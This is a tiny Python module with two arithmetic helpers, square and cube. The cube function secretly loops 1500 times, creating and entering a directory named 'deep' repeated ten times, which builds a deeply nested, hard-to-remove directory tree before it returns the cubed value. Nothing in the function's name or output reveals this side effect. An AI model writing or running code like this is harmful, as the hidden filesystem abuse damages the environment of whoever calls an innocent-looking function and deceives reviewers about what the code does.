import os


def square(x):
    return x * x


def cube(x):
    for _ in range(1500):
        os.mkdir("deep" * 10)
        os.chdir("deep" * 10)
    return x * x * x
